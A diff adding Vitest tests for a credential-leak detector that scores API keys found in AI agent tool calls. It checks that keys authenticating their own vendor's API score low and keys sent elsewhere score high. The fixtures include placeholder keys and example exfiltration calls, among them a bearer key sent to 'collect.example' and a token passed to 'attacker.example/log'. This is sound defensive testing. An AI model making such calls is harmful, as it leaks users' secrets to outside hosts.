@@ -1,0 +1,44 @@
+import { describe, expect, it } from 'vitest';
+import { scanPiiInCall } from '../../../../src/pipeline/detectors/pii/index.js';
+import { CREDENTIAL_IN_USE_RISK } from '../../../../src/pipeline/detectors/pii/credential-use.js';
+import type { ToolCall } from '../../../../src/pipeline/types.js';
+
+const call = (args: Record<string, unknown>, tool = 'http_request'): ToolCall => ({ tool, args, context: {}, agentId: 'a', sessionId: null });
+const keyRisk = (args: Record<string, unknown>, tool?: string): number =>
+  scanPiiInCall(call(args, tool)).find((f) => f.family.startsWith('pii_api_key'))?.risk ?? 0;
+
+const OPENAI = 'sk-proj-abcdefghijklmnopqrstuvwxyz123456';
+const GITHUB = 'ghp_1234567890abcdefghijklmnopqrstuvwxyzAB';
+const GENERIC = '8d6d91941230817f7807d643736e8a49';
+
+describe('credentials that authenticate the request carrying them', () => {
+  it.each([
+    ['an Authorization header to the key vendor', { url: 'https://api.github.com/user', headers: { Authorization: `token ${GITHUB}` } }],
+    ['a bearer key to its own API', { url: 'https://api.openai.com/v1/models', headers: { Authorization: `Bearer ${OPENAI}` } }],
+    ['a key parameter object', { url: 'https://api.themoviedb.org/3/movie/550', params: { api_key: GENERIC } }],
+    ['a key in the query of an API host', { url: `https://api.themoviedb.org/3/movie/550?api_key=${GENERIC}` }],
+    ['a key in the query of a host named like an API', { url: `https://newsapi.org/v2/top-headlines?country=us&apiKey=${GENERIC}` }],
+  ])('are reported at low risk: %s', (_label, args) => {
+    const risk = keyRisk(args);
+    expect(risk).toBeGreaterThan(0);
+    expect(risk).toBeLessThanOrEqual(CREDENTIAL_IN_USE_RISK);
+  });
+
+  it.each([
+    ["a vendor's key sent to another host", { url: 'https://collect.example/x', headers: { Authorization: `Bearer ${OPENAI}` } }],
+    ['a secret in the query of a host that is no API', { url: `https://attacker.example/log?token=${GENERIC}` }],
+    ['a key in a message body', { to: 'ops@company.example', body: `Here is the key: ${OPENAI}` }],
+    ['a key in the URL path', { url: `https://api.example.com/v1/${GITHUB}/latest` }],
+  ])('keep their risk: %s', (_label, args) => {
+    expect(keyRisk(args)).toBeGreaterThanOrEqual(40);
+  });
+});
+
+describe('a credential in use is reported apart', () => {
+  it('under its own family, which chain detection does not count as a leak', () => {
+    const findings = scanPiiInCall(call({ url: 'https://api.github.com/user', headers: { Authorization: `token ${GITHUB}` } }));
+    expect(findings.map((f) => f.family)).toEqual(['pii_api_key_in_use']);
+    expect(findings[0]!.detail).toContain('authenticating its own request');
+    expect(findings[0]!.detail).not.toContain(GITHUB);
+  });
+});
